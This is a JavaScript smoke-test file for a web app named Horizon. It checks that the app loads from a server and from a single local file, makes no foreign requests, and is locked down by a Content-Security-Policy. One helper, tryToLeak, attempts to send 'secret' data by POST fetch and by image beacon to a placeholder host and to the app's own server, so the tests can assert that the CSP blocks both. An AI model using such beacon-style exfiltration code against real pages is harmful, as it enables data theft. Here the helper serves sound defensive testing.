// Smoke tests: the page starts in both forms, makes no request beyond its own files, reports
// no errors, and cannot connect anywhere once it is running. They assume of the app only that
// it renders a <main> and shows the name "Horizon" as an element's whole text.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { openServed, openFile, server } from './harness.mjs';

/** In the page: try a fetch and an image load to `target`; report what the CSP said. */
async function tryToLeak(page, target) {
  return page.evaluate(async (target) => {
    const violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    let fetched;
    try {
      await fetch(target, { method: 'POST', body: 'secret' });
      fetched = 'sent';
    } catch {
      fetched = 'blocked';
    }
    const image = await new Promise((resolve) => {
      const img = new Image();
      img.onload = () => resolve('loaded');
      img.onerror = () => resolve('blocked');
      img.src = `${target}?leak=1`;
    });
    await new Promise((resolve) => setTimeout(resolve, 50)); // let violation events arrive
    return { fetched, image, violations: [...new Set(violations)].sort() };
  }, target);
}

/** Waits for the app to start and show its name. */
async function started(app) {
  await app.ready();
  await app.page.locator('main').first().waitFor();
  await app.page.getByText('Horizon', { exact: true }).first().waitFor();
}

/** Requests made after the first `before` that the CSP did not stop. */
function sentSince(app, before) {
  return app.requests.slice(before).filter((r) => r.failure !== 'csp');
}

const CSP_NOISE = [/Content Security Policy/];

test('served: the page starts and shows Horizon', async (t) => {
  const app = await openServed(t);
  await started(app);
  const fetched = (file) => app.requests.filter((r) => new URL(r.url).pathname.endsWith(`/${file}`)).length;
  assert.equal(fetched('horizon_web_bg.wasm'), 1, 'the wasm is fetched once (the preload is used)');
  // The file formats module (crates/formats) is fetched once the app has started, before the lock.
  await app.page.waitForFunction(() => typeof globalThis.__horizonFormats === 'function');
  assert.equal(fetched('horizon_formats_bg.wasm'), 1, 'the file formats module is fetched once, after start');
  assert.ok(app.requests.every((r) => r.kind === 'server' || r.kind === 'inline'), 'only the test server is asked');
  app.assertNoForeignRequests();
  app.assertNoErrors();
  const preload = app.consoleWarnings.filter((w) => /preload/i.test(w.text));
  assert.deepEqual(preload, [], 'no warning about an unused preload');
});

test('one file: dist/horizon.html opened from disk shows Horizon', async (t) => {
  const app = await openFile(t);
  await started(app);
  const network = app.requests.filter((r) => r.kind !== 'inline' && r.url !== app.url);
  assert.deepEqual(network, [], 'no request but the page itself');
  app.assertNoForeignRequests();
  app.assertNoErrors();
  const preload = app.consoleWarnings.filter((w) => /preload/i.test(w.text));
  assert.deepEqual(preload, [], 'no warning about an unused preload');
});

test('served: once running, the page cannot connect anywhere, not even its own server', async (t) => {
  const app = await openServed(t);
  await started(app);
  const before = app.requests.length;
  const own = await tryToLeak(app.page, (await server()).url + 'collect');
  assert.deepEqual(own, { fetched: 'blocked', image: 'blocked', violations: ['connect-src', 'img-src'] });
  const foreign = await tryToLeak(app.page, 'https://example.invalid/collect');
  assert.deepEqual(foreign, { fetched: 'blocked', image: 'blocked', violations: ['connect-src', 'img-src'] });
  assert.deepEqual(sentSince(app, before), [], 'the browser sent nothing');
  app.assertNoErrors({ ignore: CSP_NOISE });
});

test('one file: the page cannot connect anywhere', async (t) => {
  const app = await openFile(t);
  await started(app);
  const before = app.requests.length;
  const result = await tryToLeak(app.page, 'https://example.invalid/collect');
  assert.deepEqual(result, { fetched: 'blocked', image: 'blocked', violations: ['connect-src', 'img-src'] });
  assert.deepEqual(sentSince(app, before), [], 'the browser sent nothing');
  app.assertNoErrors({ ignore: CSP_NOISE });
});

test('both forms carry a Content-Security-Policy that closes connections', async (t) => {
  const served = await openServed(t);
  const file = await openFile(t);
  const policies = (app) =>
    app.page.$$eval('meta[http-equiv="Content-Security-Policy"]', (metas) => metas.map((m) => m.content));
  await started(served);
  await started(file);
  const [servedFirst, ...servedLater] = await policies(served);
  assert.match(servedFirst, /default-src 'none'/);
  assert.match(servedFirst, /connect-src 'self'/, 'needed to fetch the wasm');
  assert.deepEqual(servedLater, ["connect-src 'none'; img-src data:"], 'locked after start');
  const [fileFirst] = await policies(file);
  assert.match(fileFirst, /default-src 'none'/);
  assert.match(fileFirst, /connect-src 'none'/);
  assert.match(fileFirst, /script-src 'sha256-[A-Za-z0-9+/]+=*' 'wasm-unsafe-eval'/);
  assert.doesNotMatch(fileFirst, /'self'|'unsafe-eval'|https?:|\*/, 'nothing from anywhere');
});

test('metrics: time to first render', async (t) => {
  const served = await openServed(t, { navigate: false });
  await served.timeTo('served_first_render', 'main');
  const file = await openFile(t, { navigate: false });
  await file.timeTo('one_file_first_render', 'main');
  served.assertNoErrors();
  file.assertNoErrors();
});
